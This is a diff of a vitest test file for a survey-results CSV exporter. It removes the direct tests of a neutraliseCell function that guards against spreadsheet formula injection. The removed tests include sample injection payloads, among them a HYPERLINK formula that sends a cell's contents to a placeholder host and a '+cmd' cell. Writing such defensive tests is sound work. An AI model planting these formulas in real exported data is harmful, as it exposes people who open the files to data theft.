@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { answerLabel, buildResultsCsv, csvFileName, neutraliseCell } from './results-csv';
+import { answerLabel, buildResultsCsv, csvFileName } from './results-csv';
 import type { SurveyField, SurveyResponse } from './types';
 
 const field = (id: string, type: string, label: string): SurveyField => ({
@@ -35,30 +35,6 @@ test('BOM, header order, every cell quoted, quotes doubled, arrays joined, CRLF'
 test('file name', () => {
   expect(csvFileName('abc')).toBe('survey_abc_results.csv');
 });
-
-test.each([
-  ['=HYPERLINK("http://x.example/?"&A1,"x")', `'=HYPERLINK("http://x.example/?"&A1,"x")`],
-  ['+cmd', "'+cmd"],
-  ['-2+3', "'-2+3"],
-  ['@SUM(A1)', "'@SUM(A1)"],
-  ['\tTAB', "'\tTAB"],
-  ['\rCR', "'\rCR"],
-  ['＝１＋１', "'＝１＋１"],
-  ['＋81', "'＋81"],
-  ['－', "'－"],
-  ['＠x', "'＠x"],
-  ['-', "'-"],
-  ['1e308x', '1e308x'],
-])('a cell starting a formula gets a leading quote: %j', (cell, expected) => {
-  expect(neutraliseCell(cell)).toBe(expected);
-});
-
-test.each(['-5', '+3.2', '-0.5', '-1e3', '42', '', 'テキスト', "'already", 'a=b'])(
-  'plain numbers and ordinary text stay as they are: %j',
-  (cell) => {
-    expect(neutraliseCell(cell)).toBe(cell);
-  },
-);
 
 test('answers and headers are neutralised in the file, numbers kept', () => {
   const fields = [field('a', 'text', '=見出し'), field('n', 'number', '点数')];
